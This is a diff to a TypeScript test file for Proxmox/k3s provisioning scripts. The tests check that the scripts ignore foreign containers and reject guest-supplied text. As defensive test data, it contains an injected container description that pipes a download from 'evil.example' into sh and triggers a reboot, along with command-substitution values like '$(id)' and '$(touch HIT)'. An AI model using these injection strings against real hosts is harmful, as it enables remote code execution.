@@ -6,8 +6,8 @@ import { taskOf, type TaskName } from "../../remote/tasks";
 import { CREATION, MARK, ScriptedHost } from "../support/scriptedHost";
 
 /*
- * Who is asked and given something, and what becomes of words that a guest, a stranger or a mirror chose. The hosts are
- * folders; `pct` records its calls.
+ * Which guests get a question or data, and what the scripts do with text that a guest, another person or a mirror chose. The hosts
+ * are folders; `pct` records its calls.
  */
 
 const CLUSTER_ID = "0123456789abcdef";
@@ -24,7 +24,7 @@ function hostWith(conf: string, pct = ""): ScriptedHost {
   return host;
 }
 
-/** Values for whatever a task asks for. */
+/** Values for the arguments of every task. */
 const VALUES = {
   ...{ CLUSTER_ID, ROLE: "agent", AFTER: "its reboot", TIMEOUT: "0", ADDRESS: "198.18.0.20", AUTHORIZED_KEYS: "" },
   ...{
@@ -43,27 +43,27 @@ const VALUES = {
 };
 
 describe.each([
-  ["a stranger's guest", "#my mail server\narch: amd64\nhostname: mail\n"],
-  ["a stranger's guest that copied our description", ours.replace("lxc.cap.drop:\n", "")],
+  ["a foreign guest", "#my mail server\narch: amd64\nhostname: mail\n"],
+  ["a foreign guest with a copy of our description", ours.replace("lxc.cap.drop:\n", "")],
   ["a guest with our mark of which the host has no record", ours],
 ])("%s on a node's VMID", (_, conf) => {
   const acting = HOST_TASKS.filter((task) => (taskOf(task).args as readonly string[]).includes("VMID"));
   it.each<TaskName | "kept-leave">([...acting.filter((task) => task !== "leave"), "kept-leave"])(
-    "is asked nothing and given nothing by %s",
+    "gets no question and no data from %s",
     (task) => {
       const host = hostWith(conf);
       host.hurry();
-      // A claim looks at the file alone; the guard and the claim let a guest with our mark be.
+      // A claim only reads the file. The guard and the claim accept a guest with our mark.
       const run = host.script(task, task === "guard" ? "delete" : "update", VALUES);
       const calls = run.pct.filter((call) => !call.startsWith("status "));
       expect([task, calls, host.conf(103)]).toEqual([task, [], conf]);
-      // Nothing needs the page.
+      // No step depends on the page, so it does not fail.
       if (task !== "guard" && task !== "claim" && task !== "page") expect([task, run.code]).toEqual([task, 1]);
     },
   );
 });
 
-describe("a stranger's description", () => {
+describe("the description of a foreign guest", () => {
   const evil = `#x of proxmox-k3s x';curl\${IFS}evil.example/x|sh; ${CLUSTER_ID}\nhostname: mail';reboot;'\n`;
 
   it.each<TaskName>(["claim", "guard", "lxc"])(
@@ -77,19 +77,22 @@ describe("a stranger's description", () => {
 });
 
 describe("a number from a guest", () => {
-  it.each(["a[$(touch HIT)]", "-5", "1e9", "99999999999999999999", "", "3\n4"])("%j is none, and not run", (word) => {
-    const answers = `case "$*" in
+  it.each(["a[$(touch HIT)]", "-5", "1e9", "99999999999999999999", "", "3\n4"])(
+    "%j is not used, and not run",
+    (word) => {
+      const answers = `case "$*" in
       *readyz*) ;;
       *started*) printf '%s\\n' '${word.replaceAll("'", "")}' ;;
       *"get node node-1 "*jsonpath*conditions*) echo "True v1.36.3+k3s1 |x" ;;
       status*) echo "status: running" ;;
     esac`;
-    const host = hostWith(ours, answers).record("prepared", 103);
-    host.hurry();
-    const run = host.script("ready", "create", { ...VALUES, TIMEOUT: "600" });
-    expect([run.code, run.output]).toEqual([0, expect.stringContaining("waiting for node-1")]);
-    expect(fs.existsSync("HIT")).toBe(false);
-  });
+      const host = hostWith(ours, answers).record("prepared", 103);
+      host.hurry();
+      const run = host.script("ready", "create", { ...VALUES, TIMEOUT: "600" });
+      expect([run.code, run.output]).toEqual([0, expect.stringContaining("waiting for node-1")]);
+      expect(fs.existsSync("HIT")).toBe(false);
+    },
+  );
 });
 
 describe("the list of a release's sums", () => {
@@ -104,7 +107,7 @@ describe("the list of a release's sums", () => {
     return { ...run, asked: fs.readFileSync(path.join(host.root, "curl"), "utf8") };
   };
 
-  it("gives the only sum of the binary", () => {
+  it("gives the binary's only sum", () => {
     expect(read(`${sum}  k3s\n${"00".repeat(32)}  k3s-airgap-images-amd64.tar\n`)).toMatchObject({
       code: 0,
       outcome: `${sum} -`,
@@ -113,10 +116,10 @@ describe("the list of a release's sums", () => {
 
   it.each([
     ["names the binary twice", `${sum}  k3s\n'$(id)'  k3s\n`],
-    ["has another word for its sum", `'$(id)'  k3s\n`],
+    ["has no sum beside the binary's name", `'$(id)'  k3s\n`],
     ["has a sum that is too short", `${sum.slice(2)}  k3s\n`],
     ["does not name it", `${sum}  k3s-arm64\n`],
-  ])("is refused where it %s", (_, list) => {
+  ])("is refused if it %s", (_, list) => {
     const run = read(list);
     expect([run.code, run.outcome]).toEqual([1, ""]);
     expect(run.output).toContain("has no SHA-256 for k3s");
